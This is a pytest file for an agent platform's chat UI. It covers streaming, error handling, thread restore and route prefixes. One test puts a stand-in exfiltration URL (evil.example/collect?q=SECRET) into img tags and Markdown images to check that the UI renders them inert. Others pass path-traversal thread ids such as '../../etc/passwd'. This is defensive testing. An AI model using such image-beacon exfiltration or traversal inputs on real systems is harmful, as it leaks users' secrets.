"""The UI's agent client, page handlers and ASGI app over real loopback HTTP (no Ray, no browser)."""

import re
import uuid
from collections.abc import Iterator
from typing import Any

import gradio as gr
import httpx
import pytest
from pydantic import ValidationError

from protocols.events import Done, Error, Metadata
from tests.support.runtime import (
    Playbook,
    Turn,
    playbook_agent,
)
from tests.support.servers import RoutePrefix, ServerThread, closed_port_url
from tests.support.ui import TRIP_ANSWER, ScriptedAgent, create_scripted_agent
from ui.app import create_ui_app
from ui.blocks import BrowserSession, ChatUI
from ui.client import AgentClient, HistoryUnavailable
from ui.config import UIArgs, get_ui_settings
from ui.transcript import AnswerRenderer, is_step

SKIP = gr.skip()


@pytest.fixture(scope="module")
def scripted() -> Iterator[tuple[ScriptedAgent, str]]:
    agent = create_scripted_agent()
    with ServerThread(agent.app) as server:
        yield agent, server.url


@pytest.fixture
async def client() -> Any:
    client = AgentClient(token="s3cret", connect_timeout_s=2, read_timeout_s=10)
    yield client
    await client.aclose()


@pytest.fixture(scope="module")
def real_agent() -> Iterator[tuple[Any, str]]:
    """The platform's own chat app over a playbook model and a real MCP server."""
    with playbook_agent() as (llm, url, _):
        yield llm, url


async def collect(client: AgentClient, url: str, text: str, thread_id: str | None = None) -> list:
    return [event async for event in client.stream_chat(url, text, thread_id)]


async def test_real_chat_app_stream_renders_a_finished_tool_step(real_agent, client) -> None:
    llm, url = real_agent
    request = f"echo please {uuid.uuid4().hex[:6]}"
    llm.playbooks[request] = Playbook(
        [Turn(tool_calls=[("echo", {"text": "hi"})]), Turn(text="The tool echoed hi back.")]
    )
    events = await collect(client, url, request)
    assert isinstance(events[0], Metadata) and isinstance(events[-1], Done)
    messages: list[dict] = []
    renderer = AnswerRenderer(messages)
    for event in events:
        renderer.apply(event)
    step = next(m for m in messages if is_step(m))
    assert step["metadata"]["title"] == "Tool echo · ok" and "echo: hi" in step["content"]
    assert messages[-1]["content"].startswith("The tool echoed hi back.")
    # The usage line names the run's trace, to look it up in the trace viewer.
    line = re.search(
        r"\*Tokens: \d+ prompt \+ \d+ completion · trace ([0-9a-f]{32})\*$", messages[-1]["content"]
    )
    assert line and line.group(1) == events[0].trace_id
    assert renderer.thread_id == events[0].thread_id


async def test_real_chat_app_4xx_becomes_an_error_event(real_agent, client) -> None:
    _, url = real_agent
    (event,) = await collect(client, url, "hello", thread_id="../../etc/passwd")
    assert isinstance(event, Error) and event.code == "http_422"
    assert "thread_id" in event.message and f"{url}/chat" in event.message


async def test_http_500_unreachable_and_cut_streams_are_error_events(scripted, client) -> None:
    agent, url = scripted
    (error,) = await collect(client, url, "http 500 now")
    assert error.code == "http_500" and error.message.endswith("answered HTTP 500: agent exploded")
    assert agent.requests[-1]["authorization"] == "Bearer s3cret"

    (error,) = await collect(client, closed_port_url(), "anyone there?")
    assert error.code == "agent_unreachable" and "cannot reach" in error.message

    events = await collect(client, url, "this will be cut short")
    assert [type(e).__name__ for e in events] == ["Metadata", "ToolCall", "Token", "Error"]
    assert events[-1].code == "stream_interrupted"


async def test_fetch_thread_and_its_failures(scripted, client) -> None:
    agent, url = scripted
    events = await collect(client, url, "Plan a 3-day trip to Lisbon.")
    thread_id = events[0].thread_id
    history = await client.fetch_thread(url, thread_id)
    assert history.thread_id == thread_id
    assert [m.role for m in history.messages] == ["user", "assistant", "tool", "tool", "assistant"]
    assert [c.name for c in history.messages[1].tool_calls] == ["a2a_weather", "a2a_research"]

    with pytest.raises(HistoryUnavailable) as unknown:
        await client.fetch_thread(url, "no-such-thread")
    assert unknown.value.status_code == 404 and "no thread no-such-thread" in unknown.value.reason
    with pytest.raises(HistoryUnavailable) as down:
        await client.fetch_thread(closed_port_url(), thread_id)
    assert down.value.status_code is None


async def run_send(ui: ChatUI, text: str, agent: str, session: Any) -> list[tuple]:
    return [update async for update in ui.send(text, agent, session)]


async def test_send_streams_then_stores_the_conversation_and_continues_its_thread(scripted, client) -> None:
    agent, url = scripted
    ui = ChatUI({"Travel": url, "Other": closed_port_url()}, client)
    updates = await run_send(ui, "Plan a 3-day trip to Lisbon next week.", "Travel", {})
    assert len(updates) > 5  # one update per event: tokens arrive one by one
    assert updates[0][1] == "" and updates[0][4] == SKIP  # the message box is cleared at once
    chat, _, thread, status, stored = updates[-1]
    # The browser stores the session as soon as the thread id is known (a reload mid-answer finds it),
    # then once more with the whole answer.
    writes = [update[4] for update in updates if update[4] != SKIP]
    assert len(writes) == 2 and writes[0]["thread_id"] == thread and len(writes[0]["messages"]) == 1
    session = BrowserSession.model_validate(stored)
    assert session.agent == "Travel" and session.thread_id == thread and thread
    assert session.messages == chat and chat[0] == {
        "role": "user",
        "content": "Plan a 3-day trip to Lisbon next week.",
    }
    assert [m["metadata"]["title"] for m in chat if is_step(m)] == [
        "Delegated to weather agent (a2a_weather) · ok",
        "Delegated to research agent (a2a_research) · ok",
    ]
    assert chat[-1]["content"].startswith(TRIP_ANSWER)
    assert "321 prompt + 54 completion" in status and thread in status

    updates = await run_send(ui, "Thanks!", "Travel", stored)
    assert agent.requests[-1]["body"]["thread_id"] == thread
    assert len(updates[-1][4]["messages"]) == len(chat) + 2

    updates = await run_send(ui, "Hi", "Other", stored)  # another agent: a new conversation
    chat, _, thread, status, stored = updates[-1]
    assert chat[0] == {"role": "user", "content": "Hi"} and "agent_unreachable" in chat[-1]["content"]
    assert thread == "" and stored["thread_id"] is None and "failed" in status

    assert (await run_send(ui, "   ", "Travel", stored))[0][:2] == (SKIP, SKIP)


async def test_reload_restores_from_the_agent_or_else_from_the_browser_copy(scripted, client) -> None:
    agent, url = scripted
    ui = ChatUI({"Travel": url}, client)
    stored = (await run_send(ui, "Plan a 3-day trip to Lisbon next week.", "Travel", {}))[-1][4]
    thread_id = stored["thread_id"]

    picked, chat, thread, status, session = await ui.restore(stored)
    assert (picked, thread, chat) == ("Travel", thread_id, stored["messages"])  # agrees: the richer copy
    assert "from the **Travel** agent (1 request)" in status

    tampered = {**stored, "messages": stored["messages"][:1] + [{"role": "user", "content": "other"}]}
    _, chat, _, status, _ = await ui.restore(tampered)
    assert "from the **Travel** agent" in status
    assert "Tokens" not in str(chat)  # rendered from the thread API, which has no usage
    assert chat[-1]["content"] == TRIP_ANSWER and len([m for m in chat if is_step(m)]) == 2

    agent.threads_api = False
    try:
        _, chat, thread, status, _ = await ui.restore(stored)
    finally:
        agent.threads_api = True
    assert chat == stored["messages"] and thread == thread_id
    assert "from this browser's copy" in status and "HTTP 404" in status

    assert (await ui.restore({}))[1:3] == ([], "")
    assert (await ui.restore({"agent": "Gone", "thread_id": "x", "messages": []}))[:3] == ("Travel", [], "")
    assert (await ui.restore("garbage"))[0] == "Travel"


def loadable(messages: list[dict]) -> list[str]:
    """Contents the browser could turn into a request: an HTML tag opener or a Markdown image."""
    return [m["content"] for m in messages if re.search(r"<[A-Za-z/!?]|!\[", m["content"])]


async def test_answers_quoting_a_hostile_page_reach_the_page_inert(real_agent, client) -> None:
    llm, url = real_agent
    request = f"show me the map {uuid.uuid4().hex[:6]}"
    exfil = "http://evil.example/collect?q=SECRET"
    llm.playbooks[request] = Playbook(
        [
            Turn(tool_calls=[("echo", {"text": f'<img src="{exfil}">'})]),
            Turn(text=f"Here: ![map]({exfil}) <img src={exfil}>"),
        ]
    )
    ui = ChatUI({"Tester": url}, client)
    updates = await run_send(ui, request, "Tester", {})
    assert all(not loadable(update[0]) for update in updates if update[0] != SKIP)  # mid-stream too
    chat, _, thread, _, stored = updates[-1]
    assert chat[-1]["content"].startswith(f"Here: [image: map]({exfil}) &lt;img src={exfil}>")
    step = next(m for m in chat if is_step(m))
    assert f'<img src="{exfil}">' in step["content"].replace("\u2060", "")  # the result still reads as sent
    assert stored["messages"] == chat

    _, restored, _, status, _ = await ui.restore(stored)  # rendered from the agent's thread API
    assert "from the **Tester** agent" in status and restored and not loadable(restored)
    raw_copy = {
        **stored,
        "thread_id": "gone-1",
        "messages": [{"role": "assistant", "content": f"![x]({exfil})"}],
    }
    _, restored, _, _, session = await ui.restore(raw_copy)  # an old browser copy holding raw markup
    assert restored == session["messages"] == [{"role": "assistant", "content": f"[image: x]({exfil})"}]


async def test_continue_thread_by_id(scripted, client) -> None:
    agent, url = scripted
    ui = ChatUI({"Travel": url}, client)
    stored = (await run_send(ui, "Plan a 3-day trip to Lisbon next week.", "Travel", {}))[-1][4]

    chat, thread, status, session = await ui.continue_thread(f" {stored['thread_id']} ", "Travel", {})
    assert thread == stored["thread_id"] and session["thread_id"] == thread
    assert chat[0]["content"] == "Plan a 3-day trip to Lisbon next week." and "restored" in status.lower()

    chat, thread, status, session = await ui.continue_thread("unknown-1", "Travel", stored)
    assert (chat, thread, session["thread_id"]) == ([], "unknown-1", "unknown-1")
    assert "history is unavailable" in status and "HTTP 404" in status

    assert (await ui.continue_thread("../etc", "Travel", stored))[:2] == (SKIP, SKIP)


def test_ui_args_resolve_routes_and_urls_and_read_the_token_from_the_environment(monkeypatch) -> None:
    args = UIArgs(
        agents={"Weather": "/weather-agent", "Remote": "https://agents.example.com/travel/"},
        base_url="http://serve:8000/",
    )
    assert args.agent_urls() == {
        "Weather": "http://serve:8000/weather-agent",
        "Remote": "https://agents.example.com/travel",
    }
    monkeypatch.setenv("UI_BEARER_TOKEN", "from-env")
    get_ui_settings.cache_clear()
    try:
        assert args.token() == "from-env"
        assert UIArgs(agents={"A": "/a"}, bearer_token="explicit").token() == "explicit"
    finally:
        get_ui_settings.cache_clear()
    for bad in ({"agents": {}}, {"agents": {"A": "weather-agent"}}, {"agents": {"A": "/a"}, "typo": 1}):
        with pytest.raises(ValidationError):
            UIArgs.model_validate(bad)


def test_page_and_assets_load_behind_a_route_prefix(scripted) -> None:
    _, url = scripted
    app = create_ui_app(UIArgs(agents={"Travel": "/"}, base_url=url))
    with ServerThread(RoutePrefix(app, "/ui")) as server:
        with httpx.Client(base_url=server.url, timeout=30) as http:
            assert http.get("/ui/health").json() == {
                "ready": True,
                "agents": {"Travel": url},
                "config_version": None,
            }
            page = http.get("/ui/")
            assert page.status_code == 200 and "text/html" in page.headers["content-type"]
            assets = re.findall(r'(?:src|href)="\./(assets/[^"]+)"', page.text)
            assert assets and all(http.get(f"/ui/{a}").status_code == 200 for a in assets)
            config = http.get("/ui/config").json()
            assert config["root"] == f"{server.url}/ui" and config["title"] == "Agent platform"
            assert http.get("/ui").headers["location"].endswith("/ui/")
